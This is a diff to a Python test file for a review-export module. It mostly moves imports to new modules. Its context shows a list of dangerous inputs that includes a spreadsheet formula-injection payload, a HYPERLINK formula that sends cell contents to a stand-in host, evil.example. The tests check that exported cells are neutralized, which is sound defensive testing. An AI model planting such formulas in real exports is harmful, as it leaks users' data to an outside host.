@@ -10,8 +10,10 @@ import json
 
 import pytest
 
-from fmquality.production.review import (EXPORT_COLUMNS, LocalReviewQueue, ReviewItem, apply_verdicts, export_text,
-                                         neutralize_cell, parse_verdicts, restore_cell)
+from fmquality.adapters.review_queue import LocalReviewQueue
+from fmquality.production.review import ReviewItem
+from fmquality.production.review_exchange import (EXPORT_COLUMNS, apply_verdicts, export_text, neutralize_cell,
+                                                  parse_verdicts, restore_cell)
 
 DANGEROUS = [
     "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"click\")",
@@ -107,7 +109,7 @@ def test_import_restores_every_text_exactly(tmp_path):
 
 
 def test_round_trip_of_query_and_response_through_the_csv_reader(tmp_path):
-    from fmquality.production.review import csv_rows
+    from fmquality.production.review_exchange import csv_rows
 
     texts = DANGEROUS + TRICKY
     items = [_item(i, q, texts[-1 - i]) for i, q in enumerate(texts)]
